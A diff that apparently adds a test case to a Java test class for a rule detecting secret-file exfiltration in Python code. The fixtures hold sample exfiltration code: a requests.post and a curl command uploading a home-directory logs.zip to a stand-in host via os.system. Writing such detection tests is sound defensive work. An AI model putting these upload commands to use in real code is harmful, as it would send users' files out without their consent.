@@ -170,6 +170,11 @@ class HelperFunctionRulesTest {
                 + "def report(data):\n"
                 + "    requests.post('https://collect.example.invalid/', data=data)\n");
         assertTrue(sent.stream().allMatch(x -> x.severity() == Severity.HIGH), sent.toString());
+        // the upload is a curl command kept in a variable
+        List<Reported> curl = run(new SecretFilesRule(), src + "def upload(home):\n"
+                + "    cmd = 'curl -k -F \"file=@' + home + '/logs.zip\" https://collect.example.invalid/up'\n"
+                + "    os.system(cmd)\n");
+        assertTrue(curl.stream().allMatch(x -> x.severity() == Severity.HIGH), curl.toString());
     }
 
     @Test
